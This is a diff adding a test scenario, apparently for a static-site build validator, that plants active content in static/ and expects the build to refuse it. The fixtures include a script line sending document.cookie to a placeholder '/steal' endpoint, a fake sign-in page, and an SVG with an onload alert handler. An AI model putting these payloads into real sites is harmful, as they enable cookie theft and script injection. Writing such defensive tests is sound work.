@@ -125,6 +125,32 @@ export const SCENARIOS = [
     runs: [{ ...BUILD, refuse: true, expect: [/^static: is a symbolic link \(to .*outside\/dir\)/m] }],
   },
   {
+    id: 'static-active',
+    what: 'pages, scripts and data in static/, served as the site itself, and SVG images that run or load',
+    files: {
+      'static/evil.html': '<!doctype html><title>Sign in</title><script src="/samples/evil.js"></script>',
+      'static/samples/evil.js': "fetch('{{HTTP}}/steal?' + document.cookie);",
+      'static/docs/get-started/quick-start.htm': '<p>a page beside the real one</p>',
+      'static/page-data/docs/fake/page-data.json': '{"componentChunkName":"component---src-templates-doc-tsx","result":{}}',
+      'static/img/pixel.svg': '<svg xmlns="http://www.w3.org/2000/svg">\n  <image href="{{HTTP}}/pixel.png"/>\n</svg>\n',
+      'static/img/script.svg': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>\n',
+    },
+    runs: [
+      {
+        ...BUILD,
+        refuse: true,
+        expect: [
+          /static\/evil\.html: a \.html file cannot be in static\//,
+          /static\/samples\/evil\.js: a \.js file cannot be in static\//,
+          /static\/docs\/get-started\/quick-start\.htm: a \.htm file cannot be in static\//,
+          /static\/page-data\/docs\/fake\/page-data\.json: static\/page-data\/ is written by the build/,
+          /static\/img\/pixel\.svg:2: the SVG holds a link or reference to another file/,
+          /static\/img\/script\.svg:1: the SVG holds an event handler attribute/,
+        ],
+      },
+    ],
+  },
+  {
     id: 'frontmatter-code',
     what: 'front matter in JavaScript, CoffeeScript and JSON fences, and YAML with JavaScript tags',
     files: {
